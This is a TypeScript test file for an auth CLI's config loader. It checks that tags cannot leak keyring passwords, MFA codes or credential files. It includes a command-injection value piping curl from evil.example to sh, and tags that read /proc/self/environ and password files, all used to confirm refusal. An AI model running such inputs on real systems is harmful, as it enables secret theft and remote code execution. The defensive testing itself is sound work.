import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { secretsIn, textsUnder } from './canary.ts';
import { accessKey, openConfiguredMachine, openMachine, type Machine } from './machine.ts';

// In these projects a tag reads something that the project's author must not get: a keyring secret,
// or any other variable of the user. The text is a valid realm, region, path and host name, so that
// no other check refuses it.
const canary = 'canary-in-the-coal-mine';
const code = '918273';
const identity = 'auth.identities.emergency-user';
const limitMs = 240_000;

type Texts = Readonly<Record<string, string>>;

/** How a file requests the secret, and the content of the user's environment. */
interface Way {
  /** The value in YAML. */
  readonly tag: string;
  /** `~` at the start of a value is the home directory. */
  readonly env?: Texts;
  /** More settings, by their paths. */
  readonly more?: Texts;
  /** By their paths in the project, or from `~`. A value that begins with `->` is a link. */
  readonly files?: Texts;
  /** The text of the error after the position. */
  readonly refusal: string;
}

const held = 'its value is the keyring password in';
const isPassword = (tag: string, where: string) => `must not be set from ${tag}: ${held} ${where}`;
const trusted = { ATMOS_AUTH_TRUST: '1' };

const ways: Readonly<Record<string, Way>> = {
  'the password variable': {
    tag: '!env ATMOS_KEYRING_PASSWORD',
    env: { ATMOS_KEYRING_PASSWORD: canary },
    refusal: isPassword('!env ATMOS_KEYRING_PASSWORD', 'ATMOS_KEYRING_PASSWORD'),
  },
  'the password variable, with a default': {
    tag: '!env ATMOS_KEYRING_PASSWORD none',
    env: { ATMOS_KEYRING_PASSWORD: canary },
    refusal: isPassword('!env ATMOS_KEYRING_PASSWORD', 'ATMOS_KEYRING_PASSWORD'),
  },
  'another variable with the password': {
    tag: '!env PW',
    env: { ATMOS_KEYRING_PASSWORD: canary, PW: canary },
    refusal: isPassword('!env PW', 'ATMOS_KEYRING_PASSWORD'),
  },
  'another variable with the password between spaces': {
    tag: '!env PW',
    env: { ATMOS_KEYRING_PASSWORD: `${canary}\n`, PW: `  ${canary}` },
    refusal: isPassword('!env PW', 'ATMOS_KEYRING_PASSWORD'),
  },
  'a variable that contains the password': {
    tag: '!env URL',
    env: { ATMOS_KEYRING_PASSWORD: canary, URL: `db://me:${canary}@db` },
    refusal:
      'must not be set from !env URL: its value contains the keyring password in ATMOS_KEYRING_PASSWORD',
  },
  'the variable that ATMOS_KEYRING_PASSWORD_ENV names': {
    tag: '!env PW',
    env: { ATMOS_KEYRING_PASSWORD_ENV: 'PW', PW: canary },
    refusal: isPassword('!env PW', 'PW'),
  },
  'the variable that spec.password_env names': {
    tag: '!env PW',
    env: { PW: canary },
    more: { 'auth.keyring.spec.password_env': 'PW' },
    refusal: isPassword('!env PW', 'PW'),
  },
  'the variable that env: names': {
    tag: '!env PW',
    env: { PW: canary },
    more: { 'env.ATMOS_KEYRING_PASSWORD_ENV': 'PW' },
    refusal: isPassword('!env PW', 'PW'),
  },
  "the variable that the user's own configuration names": {
    tag: '!env PW',
    env: { PW: canary },
    files: { '~/.atmos/atmos.yaml': 'auth:\n  keyring:\n    spec:\n      password_env: PW\n' },
    refusal: isPassword('!env PW', 'PW'),
  },
  'the variable that a profile names, which is merged later': {
    tag: '!env PW',
    env: { PW: canary, ATMOS_PROFILE: 'ci' },
    files: { 'profiles/ci/atmos.yaml': 'auth:\n  keyring:\n    spec:\n      password_env: PW\n' },
    refusal: isPassword('!env PW', 'PW'),
  },
  'a variable with what the password file holds': {
    tag: '!env PW',
    env: { PW: canary, ATMOS_KEYRING_PASSWORD_FILE: '~/password' },
    files: { '~/password': `${canary}\n` },
    refusal: isPassword('!env PW', 'the file that ATMOS_KEYRING_PASSWORD_FILE names'),
  },
  'an MFA code': {
    tag: '!env CODE',
    env: { ATMOS_MFA_TOKEN: code, CODE: code },
    refusal: 'must not be set from !env CODE: its value is the MFA code in ATMOS_MFA_TOKEN',
  },
  'the password of another keyring': {
    tag: '!env ATMOS_KEYRING_IMPORT_PASSWORD',
    env: { ATMOS_KEYRING_IMPORT_PASSWORD: canary },
    refusal: isPassword('!env ATMOS_KEYRING_IMPORT_PASSWORD', 'ATMOS_KEYRING_IMPORT_PASSWORD'),
  },
  'the directory of credentials': {
    tag: '!env CREDENTIALS_DIRECTORY',
    env: { CREDENTIALS_DIRECTORY: `/run/credentials/${canary}` },
    refusal:
      'must not be set from !env CREDENTIALS_DIRECTORY: its value is the directory in CREDENTIALS_DIRECTORY',
  },
  'a line of .env that is the password': {
    tag: '!include .env .PW',
    env: { ATMOS_KEYRING_PASSWORD: canary },
    files: { '.env': `PW=${canary}\n` },
    refusal: isPassword('!include', 'ATMOS_KEYRING_PASSWORD'),
  },
  'the password file': {
    tag: '!include.raw password.txt',
    more: { 'auth.keyring.spec.password_file': 'password.txt' },
    files: { 'password.txt': `${canary}\n` },
    refusal:
      'must not be set from !include: the included file is the keyring password in the file that auth.keyring.spec.password_file',
  },
  'a file of systemd, by a link': {
    tag: '!include ../link',
    env: { CREDENTIALS_DIRECTORY: '~/credentials', ...trusted },
    files: { '~/credentials/other': canary, '~/link': '-> credentials/other' },
    refusal:
      'must not be set from !include: the included file is a secret in CREDENTIALS_DIRECTORY',
  },
  'the environment of the process': {
    tag: '!include.raw /proc/self/environ',
    env: { PASSWORD_OF_OTHERS: canary, ...trusted },
    refusal:
      'must not be set from !include: /proc/self/environ may hold the environment of a process',
  },
  'the output of a command': {
    tag: '!exec printf %s "$PW"',
    env: { PW: canary, ATMOS_KEYRING_PASSWORD: canary, ...trusted },
    refusal: isPassword('!exec', 'ATMOS_KEYRING_PASSWORD'),
  },
};

const showAll = ['-e', 'console.log(JSON.stringify(process.env))'];
const commands = {
  exec: ['auth', 'exec', '--', process.execPath, ...showAll],
  env: ['auth', 'env'],
  'env -f json': ['auth', 'env', '-f', 'json'],
  validate: ['auth', 'validate'],
  'validate -o json': ['auth', 'validate', '-o', 'json'],
  login: ['auth', 'login'],
  status: ['auth', 'keyring', 'status'],
  trust: ['auth', 'trust'],
} as const;

type Command = keyof typeof commands;

describe('a secret of our own is never resolved', () => {
  test.each(Object.entries(ways))('%s', { timeout: limitMs }, async (_, way) => {
    const machine = await openMachine();
    writeFiles(machine, way.files);
    machine.writeConfig(yamlOf(machine, { 'env.TF_VAR_x': way.tag, ...way.more }));
    // Commands that run no command do not know the output of `!exec`.
    const others: Command[] = way.tag.startsWith('!exec') ? [] : ['env', 'validate'];
    const results = await tryToRead(machine, way, ['exec', ...others]);
    for (const { command, exitCode, stdout, stderr } of results) {
      const said = stdout + stderr;
      expect({ command, exitCode, said }).toMatchObject({ command, exitCode: 2 });
      expect(said).toMatch(/env\.TF_VAR_x \(\S*atmos\.yaml:\d+:\d+\) must not be set/);
      expect(said).toContain(way.refusal);
    }
  });

  const places: Readonly<Record<string, Texts>> = {
    'env.AWS_REGION': { 'env.AWS_REGION': '!env PW' },
    'env.ATMOS_IDENTITY': { 'env.ATMOS_IDENTITY': '!env PW' },
    'env.ATMOS_LOGS_LEVEL': { 'env.ATMOS_LOGS_LEVEL': '!env PW' },
    'auth.realm': { 'auth.realm': '!env PW' },
    'auth.keyring.type': { 'auth.keyring.type': '!env PW' },
    'auth.keyring.fallback': { 'auth.keyring.fallback': '[!env PW]' },
    'auth.keyring.spec.path': { 'auth.keyring.spec.path': '!env PW' },
    'auth.keyring.spec.password_env': { 'auth.keyring.spec.password_env': '!env PW' },
    'auth.keyring.spec.password_file': { 'auth.keyring.spec.password_file': '!env PW' },
    'auth.keyring.spec.password_command': { 'auth.keyring.spec.password_command': '!env PW' },
    'auth.logs.level': { 'auth.logs.level': '!env PW' },
    'logs.level': { 'logs.level': '!env PW' },
    'logs.file': { 'logs.file': '!env PW' },
    'profiles.default': { 'profiles.default': '!env PW' },
    'profiles.base_path': { 'profiles.base_path': '!env PW' },
    import: { import: '!env PW' },
    base_path: { base_path: '!env PW', import: 'missing' },
    kind: { [`${identity}.kind`]: '!env PW' },
    'via.provider': { [`${identity}.via.provider`]: '!env PW' },
    default: { [`${identity}.default`]: '!env PW' },
    env: { [`${identity}.env`]: '[{key: TF_VAR_x, value: !env PW}]' },
    'env, appended': { [`${identity}.env`]: '!append [{key: TF_VAR_x, value: !env PW}]' },
    'session.duration': { [`${identity}.session.duration`]: '!env PW' },
    'credentials.region': { [`${identity}.credentials.region`]: '!env PW' },
    'credentials.mfa_arn': { [`${identity}.credentials.mfa_arn`]: '!env PW' },
    'spec.endpoint_url': { [`${identity}.spec.endpoint_url`]: '!env PW' },
  };

  test.each(Object.entries(places))('at %s', { timeout: limitMs }, async (_, place) => {
    const machine = await openMachine();
    const env = { ATMOS_KEYRING_PASSWORD: canary, PW: canary };
    machine.writeConfig(yamlOf(machine, place));
    const results = await tryToRead(machine, { env }, ['env', 'exec', 'validate -o json', 'trust']);
    for (const result of results) expect(result).toMatchObject({ exitCode: 2 });
    // Values that are needed to read the files are refused earlier.
    expect(results.map(({ stderr, stdout }) => stderr + stdout).join()).toMatch(
      /must not be set from !env PW|<value of !env PW>/,
    );
  });

  test('the same file with other values works', { timeout: limitMs }, async () => {
    const machine = await openConfiguredMachine();
    const env = {
      DEPLOY_REALM: 'script',
      DEPLOY_KEY_ID: accessKey.accessKeyId,
      DEPLOY_SECRET: accessKey.secretAccessKey,
      STAGE: 'dev',
      // The password of an older keyring may be short, and so be part of any text.
      ATMOS_KEYRING_PASSWORD: 'e',
    };
    machine.writeConfig(
      yamlOf(machine, {
        'auth.realm': '!env DEPLOY_REALM',
        'auth.keyring.type': 'memory',
        [`${identity}.credentials.access_key_id`]: '!env DEPLOY_KEY_ID',
        [`${identity}.credentials.secret_access_key`]: '!env DEPLOY_SECRET',
        [`${identity}.credentials.region`]: '!env NO_REGION eu-central-1',
        'env.TF_VAR_stage': '!env STAGE',
        'env.TF_VAR_owner': '!include team.yaml .owner',
      }),
    );
    writeFiles(machine, { 'team.yaml': 'owner: platform\n' });
    const program = `const {TF_VAR_stage, TF_VAR_owner, AWS_REGION} = process.env;
      console.log(TF_VAR_stage, TF_VAR_owner, AWS_REGION)`;
    const words = ['auth', 'exec', '--', process.execPath, '-e', program];
    expect(await machine.atmos(words, { env })).toEqual({
      exitCode: 0,
      stdout: 'dev platform eu-central-1\n',
      stderr: expect.not.stringContaining('error'),
    });
  });
});

describe('a value from a tag is never quoted', () => {
  const shown = '<value of !env TOKEN>';
  const odd = `${canary}, as it is not`;
  const cases: Readonly<Record<string, readonly [Texts, string, Command?]>> = {
    realm: [{ 'auth.realm': '!env TOKEN' }, `realm ${shown} (from auth.realm (`],
    'realm of env:': [
      { 'env.ATMOS_AUTH_REALM': '!env TOKEN' },
      `realm ${shown} (from env.ATMOS_AUTH_REALM (`,
    ],
    'keyring type': [{ 'auth.keyring.type': '!env TOKEN' }, `unknown keyring type ${shown} (from`],
    'keyring fallback': [
      { 'auth.keyring.fallback': '[!env TOKEN]' },
      `unknown keyring type ${shown} (from`,
      'validate',
    ],
    'password variable': [
      { 'auth.keyring.spec.password_env': '!env TOKEN' },
      'is not a name for an environment variable',
    ],
    'password file': [
      { 'auth.keyring.spec.password_file': '!env TOKEN' },
      `the password file ${shown} (from auth.keyring.spec.password_file (`,
    ],
    'log level': [{ 'logs.level': '!env TOKEN' }, `unknown log level ${shown} (from logs.level (`],
    'log file': [{ 'logs.file': '!env TOKEN' }, `writes a log to ${shown} (set by logs.file (`],
    'a profile': [{ 'profiles.default': '!env TOKEN' }, `unknown profile ${shown} (from`],
    'profiles of env:': [{ 'env.ATMOS_PROFILE': '!env TOKEN' }, `unknown profile ${shown} (from`],
    'the directory of profiles': [
      { 'profiles.base_path': '!env TOKEN', 'profiles.default': 'ci' },
      `unknown profile "ci" (from profiles.default (`,
    ],
    'an identity': [
      { 'env.ATMOS_IDENTITY': '!env TOKEN' },
      `unknown identity ${shown} (from env.ATMOS_IDENTITY (`,
    ],
    'an import': [{ import: '!env TOKEN' }, `names ${shown}, not found in`],
    'the base path': [{ base_path: '!env TOKEN', import: 'missing' }, `not found in ${shown}, `],
    kind: [{ [`${identity}.kind`]: '!env TOKEN' }, `unknown kind ${shown} (`],
    'via.identity': [
      { [`${identity}.via.identity`]: '!env TOKEN' },
      `is not an identity: ${shown}`,
      'validate',
    ],
    duration: [{ [`${identity}.session.duration`]: '!env TOKEN' }, `${shown} is not a duration`],
    region: [
      { [`${identity}.credentials.region`]: '!env TOKEN' },
      `is not the name of an AWS region: ${shown}`,
    ],
    flag: [{ [`${identity}.default`]: '!env TOKEN' }, 'must be true or false, not text'],
    map: [{ 'auth.keyring.spec': '!env TOKEN' }, 'must be a map, not text'],
  };

  test.each(Object.entries(cases))('%s', { timeout: limitMs }, async (_, [settings, text, by]) => {
    const machine = await openConfiguredMachine();
    delete machine.env['ATMOS_KEYRING_PASSWORD'];
    machine.writeConfig(yamlOf(machine, settings));
    const tried: Command[] = [
      by ?? 'login',
      'env',
      'exec',
      'validate',
      'validate -o json',
      'status',
    ];
    // The environment would take precedence over the log settings of the files.
    const env = { TOKEN: odd, ATMOS_LOGS_LEVEL: '', ATMOS_LOGS_FILE: '' };
    const [first] = await tryToRead(machine, { env, isAboutMessages: true }, tried);
    expect(`${first?.stderr}${first?.stdout}`).toContain(text);
  });

  test(
    'a region, an endpoint and an MFA device in use are not quoted',
    { timeout: limitMs },
    async () => {
      const machine = await openConfiguredMachine();
      const settings = {
        [`${identity}.credentials.region`]: '!env REGION',
        [`${identity}.credentials.mfa_arn`]: '!env DEVICE',
        [`${identity}.spec.endpoint_url`]: '!env ENDPOINT',
      };
      machine.writeConfig(yamlOf(machine, settings));
      const env = {
        ...trusted,
        REGION: canary,
        DEVICE: `arn:aws:iam::123456789012:mfa/${canary}`,
        ENDPOINT: `http://${canary}.localhost:1`,
      };
      const [noCode] = await tryToRead(machine, { env }, ['login']);
      expect(noCode?.stderr).toContain('a code of the MFA device <value of !env DEVICE> is needed');
      const withCode = { ...env, ATMOS_MFA_TOKEN: '123456' };
      const [noAnswer] = await tryToRead(machine, { env: withCode }, ['login']);
      expect(noAnswer?.stderr).toContain('cannot reach <value of !env ENDPOINT>');
    },
  );

  test('a value that is written in the file is quoted', async () => {
    const machine = await openMachine();
    machine.writeConfig(yamlOf(machine, { 'auth.keyring.type': '!env NO_TYPE flie' }));
    const { exitCode, stderr } = await machine.atmos('auth login');
    expect({ exitCode, stderr }).toEqual({
      exitCode: 2,
      stderr: expect.stringContaining('unknown keyring type "flie" (from auth.keyring.type ('),
    });
  });
});

describe('a setting that names a variable is checked', () => {
  const evil = 'X;curl evil.example|sh;Y';
  const where: Readonly<Record<string, readonly [Texts, Texts, string]>> = {
    'spec.password_env': [
      { 'auth.keyring.spec.password_env': `"${evil}"` },
      {},
      'auth.keyring.spec.password_env (',
    ],
    'env.ATMOS_KEYRING_PASSWORD_ENV': [
      { 'env.ATMOS_KEYRING_PASSWORD_ENV': `"${evil}"` },
      {},
      'env.ATMOS_KEYRING_PASSWORD_ENV (',
    ],
    'a variable': [
      {},
      { ATMOS_KEYRING_PASSWORD_ENV: evil },
      `the password variable "${evil}" (from ATMOS_KEYRING_PASSWORD_ENV) is not a name`,
    ],
  };

  test.each(Object.entries(where))('%s', { timeout: limitMs }, async (_, [settings, env, text]) => {
    const machine = await openMachine();
    machine.writeConfig(yamlOf(machine, settings));
    for (const command of ['login', 'env', 'status', 'validate'] as const) {
      // The current environment is not an error of the files.
      if (command === 'validate' && Object.keys(settings).length === 0) continue;
      const { exitCode, stdout, stderr } = await machine.atmos(commands[command], { env });
      const said = stdout + stderr;
      expect({ command, exitCode, said }).toMatchObject({ command, exitCode: 2 });
      expect(said).toContain(text);
      expect(said).toContain('is not a name for an environment variable');
      expect(said).not.toContain(`export ${evil}`);
    }
  });
});

test('a command of !exec gets no secret of our own', async () => {
  const machine = await openMachine();
  const show = join(machine.home, 'seen');
  machine.writeConfig(
    yamlOf(machine, {
      'env.TF_VAR_x': `!exec env | sort > ${show}; echo x`,
      'auth.keyring.spec.password_env': 'MY_PW',
    }),
  );
  const env = {
    ...trusted,
    MY_PW: canary,
    ATMOS_KEYRING_PASSWORD: canary,
    ATMOS_MFA_TOKEN: code,
    CREDENTIALS_DIRECTORY: '/nowhere',
    OTHER: 'kept',
  };
  await machine.atmos(commands.env, { env });
  const seen = readFileSync(show, 'utf8');
  expect(seen).toContain('OTHER=kept');
  expect(secretsIn(seen, { canary, code, directory: '/nowhere' })).toEqual([]);
});

/**
 * Runs commands in the project. None may show the secret, or write it to the log, a handle or a
 * file name. If it is not a secret of our own, a handle may name a path that contains it.
 */
async function tryToRead(
  machine: Machine,
  way: Pick<Way, 'env' | 'files'> & { readonly isAboutMessages?: boolean },
  tried: readonly Command[],
): Promise<{ command: string; exitCode: number | null; stdout: string; stderr: string }[]> {
  const given = Object.keys(way.files ?? {}).map((name) => pathOf(machine, name));
  const log = { ATMOS_LOGS_LEVEL: 'Trace', ATMOS_LOGS_FILE: join(machine.root, 'atmos.log') };
  const env = Object.fromEntries(
    Object.entries({ ...log, ...way.env }).map(([name, value]) => [
      name,
      value.startsWith('~/') ? join(machine.home, value.slice(2)) : value,
    ]),
  );
  const results = [];
  for (const command of tried) {
    results.push({ command, ...(await machine.atmos(commands[command], { env })) });
  }
  const texts = {
    ...Object.fromEntries(results.map((one) => [`output of ${one.command}`, JSON.stringify(one)])),
    ...(way.isAboutMessages ? {} : textsUnder(machine.root)),
  };
  for (const [name, text] of Object.entries(texts)) {
    const found = given.includes(name) ? [] : secretsIn(text, { canary, code });
    const shown = found.length === 0 ? '' : text;
    expect({ name, found, shown }).toEqual({ name, found: [], shown: '' });
  }
  return results;
}

/**
 * The atmos.yaml of a machine with these settings, by their paths; the last word takes precedence.
 */
function yamlOf({ sts }: Machine, settings: Texts): string {
  const all = {
    'auth.realm': 'script',
    'auth.keyring.type': 'file',
    [`${identity}.kind`]: 'aws/user',
    [`${identity}.default`]: 'true',
    [`${identity}.spec.endpoint_url`]: sts.url,
    ...settings,
  };
  const paths = Object.entries(all).map(([path, text]) => ({ keys: path.split('.'), text }));
  return linesOf(paths, 0);
}

function linesOf(
  entries: readonly { keys: readonly string[]; text: string }[],
  depth: number,
): string {
  const indent = '  '.repeat(depth);
  const heads = [...new Set(entries.map(({ keys }) => keys[0] ?? ''))];
  return heads
    .map((head) => {
      const inside = entries
        .filter(({ keys }) => keys[0] === head)
        .map(({ keys, text }) => ({ keys: keys.slice(1), text }));
      const scalar = inside.findLast(({ keys }) => keys.length === 0);
      if (scalar !== undefined) return `${indent}${head}: ${scalar.text}\n`;
      return `${indent}${head}:\n${linesOf(inside, depth + 1)}`;
    })
    .join('');
}

function pathOf({ home, project }: Machine, name: string): string {
  return name.startsWith('~/') ? join(home, name.slice(2)) : join(project, name);
}

function writeFiles(machine: Machine, files: Texts = {}): void {
  for (const [name, text] of Object.entries(files)) {
    const path = pathOf(machine, name);
    mkdirSync(dirname(path), { recursive: true, mode: 0o700 });
    if (text.startsWith('-> ')) symlinkSync(text.slice(3), path);
    else writeFileSync(path, text, { mode: 0o600 });
  }
}
